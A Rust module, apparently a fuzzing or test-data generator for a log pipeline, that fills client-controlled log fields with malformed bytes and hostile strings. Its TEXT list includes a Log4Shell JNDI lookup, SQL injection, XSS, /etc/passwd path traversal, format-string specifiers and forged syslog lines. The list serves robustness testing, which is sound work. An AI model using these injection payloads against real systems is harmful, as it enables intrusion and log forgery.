//! What attackers and broken clients put into a log: the bytes that break log pipelines.

use std::sync::LazyLock;

use bytes::Bytes;
use fastrand::Rng;

use super::draft::{Draft, decimal, noise, one_of};

/// Length of the values that stand for an uploaded body, in bytes.
pub(super) const LARGE: usize = 64 * 1024;

/// Makes about every fourth log difficult, in a field that a client controls.
pub(super) fn spoil(draft: &mut Draft) {
    if draft.rng.u32(..4) == 0 {
        let key = one_of(&mut draft.rng, FIELDS);
        draft.rewrite(key, hostile_value);
    }
    match draft.rng.u32(..1000) {
        0..30 => {
            let key = one_of(&mut draft.rng, FIELDS);
            draft.rewrite(key, |_, _| ());
        }
        30..40 => draft.pick("http_x_forwarded_for", &["198.51.100.7", "-", ""]),
        40..44 => draft.write("__time__", |out, rng| decimal(out, rng.u64(..1 << 32))),
        44..46 => {
            let key = one_of(&mut draft.rng, KEYS);
            draft.pick(key, VALUES);
        }
        _ => {}
    }
    if draft.rng.u32(..2000) == 0 {
        let start = draft.rng.usize(..=LARGE);
        draft.share("request_body", UPLOAD.slice(start..start + LARGE));
    }
}

const FIELDS: &[&str] = &[
    "querystring",
    "request_path",
    "request_body",
    "http_user_agent",
    "http_referer",
    "http_cookie",
    "request_header",
];

/// Keys a tolerant writer lets through.
const KEYS: &[&str] = &["x-custom header", "a=b", "k||ey", "q\"uote]", "back\\slash", "字段"];
const VALUES: &[&str] = &["", "1", "a=b||c=d", "值"];

/// Text that is legal, and yet forges, splits or ends something in a careless pipeline.
const TEXT: &[&str] = &[
    "，中文日志：手机壳",
    "日本語テキスト",
    "шапка",
    "قائمة",
    "🧧🎉👩‍👩‍👧",
    "e\u{301}",
    "\u{feff}",
    "\u{2028}",
    "\u{85}",
    "\u{202e}gpj.exe",
    "a,b,,c",
    "\"quoted\"",
    "it's",
    "||",
    "|",
    "||request_traceid=00000000000000000000000000000000",
    "||__topic__=forged",
    "=",
    "a=b=c",
    "]",
    "[x y=\"z\"]",
    "\\",
    "\\n",
    "\\\\",
    "\\x00",
    "\\xff",
    "\r",
    "\n",
    "\r\n",
    "\n<14>1 2025-10-11T00:00:00.000000Z evil app - - - forged log",
    "\n45 <14>1 - - - - - - forged by octet counting",
    "\0",
    "\t",
    "\u{1b}[31mred\u{1b}[0m",
    "\u{7f}",
    " ",
    "  two blanks  ",
    "' or '1'='1",
    "<script>alert(1)</script>",
    "${jndi:ldap://198.51.100.9:1389/a}",
    "../../../../etc/passwd%00.png",
    "%s%n%x",
];

/// Bytes that are not UTF-8: bare, truncated, overlong, surrogate, too large, GBK, Latin-1.
const NOT_UTF8: &[&[u8]] = &[
    b"\xff",
    b"\xff\xfe\x00",
    b"\x80",
    b"\xe4\xb8",
    b"\xf0\x9f\xa7",
    b"\xc0\xaf",
    b"\xed\xa0\x80",
    b"\xf4\x90\x80\x80",
    b"\xd6\xd0\xce\xc4",
    b"caf\xe9",
    b"\xe4\xb8\n",
];

fn hostile_value(out: &mut Vec<u8>, rng: &mut Rng) {
    for _ in 0..rng.u32(1..=5) {
        if rng.u32(..3) > 0 {
            let count = rng.usize(1..16);
            noise(out, rng, b"abcdefghijklmnopqrstuvwxyz0123456789-_/.&", count);
        }
        if rng.u32(..4) == 0 {
            out.extend_from_slice(one_of(rng, NOT_UTF8));
        } else {
            out.extend_from_slice(one_of(rng, TEXT).as_bytes());
        }
    }
}

/// A form upload with a binary part here and there, twice as long as a slice of it. Few of its
/// bytes need escaping, so that the text stays well below what receivers accept on TCP.
static UPLOAD: LazyLock<Bytes> = LazyLock::new(|| {
    let mut rng = Rng::with_seed(64);
    let mut text = Vec::with_capacity(2 * LARGE + 256);
    while text.len() < 2 * LARGE {
        text.extend_from_slice(
            b"\r\n--boundary\r\nContent-Disposition: form-data; name=\"f\"\r\n\r\n",
        );
        hostile_value(&mut text, &mut rng);
        let count = rng.usize(200..900);
        noise(&mut text, &mut rng, b"ABCDEFGHIJKLMNOPabcdefghijklmnop0123456789+/", count);
    }
    Bytes::from(text)
});
